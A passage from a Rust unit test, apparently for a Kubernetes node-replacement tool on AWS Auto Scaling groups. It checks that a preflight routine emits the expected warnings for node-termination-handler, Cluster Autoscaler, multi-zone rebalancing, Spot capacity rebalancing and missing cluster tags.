                        ..node("old")
                    }),
                    ..world()
                },
                vec![
                    "has not been Ready since 2027-01-01T00:00:00Z; it counts as lost at 2027-01-01T00:30:00Z",
                ],
            ),
            (
                "a group of aws-node-termination-handler",
                World::in_group_with_tag("aws-node-termination-handler/managed"),
                vec!["in queue mode that tool evicts the pods of members that the group terminates"],
            ),
            (
                "a group of Cluster Autoscaler",
                World::in_group_with_tag("k8s.io/cluster-autoscaler/enabled"),
                vec![
                    "while nodes are in Standby, the group has up to max_surge_per_group nodes more than it would choose",
                ],
            ),
            (
                "a group of two zones",
                World {
                    group: Some(Group { zones: 2, ..group() }),
                    ..world()
                },
                vec!["2 zones; while the node is in Standby, AZRebalance may terminate another node"],
            ),
            (
                "a group of two zones that does not balance them",
                World {
                    group: Some(Group {
                        zones: 2,
                        suspended: vec!["AZRebalance".to_owned()],
                        ..group()
                    }),
                    ..world()
                },
                vec![],
            ),
            (
                "a group of two zones on the after path",
                World {
                    group: Some(Group { zones: 2, ..group() }),
                    input: input(json!({"replacement": "after"})),
                    ..world()
                },
                vec![],
            ),
            (
                "Capacity Rebalancing of a Spot instance",
                World::with_spot_instance_in(Group {
                    rebalances_capacity: true,
                    ..group()
                }),
                vec!["when EC2 sees the instance at risk, the group may terminate it with its pods"],
            ),
            (
                "Capacity Rebalancing of an instance that is no Spot instance",
                World {
                    group: Some(Group {
                        rebalances_capacity: true,
                        ..group()
                    }),
                    ..world()
                },
                vec![],
            ),
            (
                "its replacement lacks the tag",
                World {
                    group_propagates: Vec::new(),
                    ..world()
                },
                vec!["does not set the tag kubernetes.io/cluster/prod on the instances that it launches"],
            ),
            (
                "resumed",
                world().resuming(),
                vec!["this execution continues where it stopped"],
            ),
        ];
        for (name, world, expected) in cases {
            let Preflight::Go { notes } = world.check() else {
                panic!("{name}: {:?}", world.check())
            };
            assert_eq!(notes.len(), expected.len(), "{name}: {notes:?}");
            assert!(
                notes
                    .iter()
                    .zip(&expected)
                    .all(|(note, text)| note.contains(text)),
                "{name}: {notes:?}"
            );
        }
    }
}
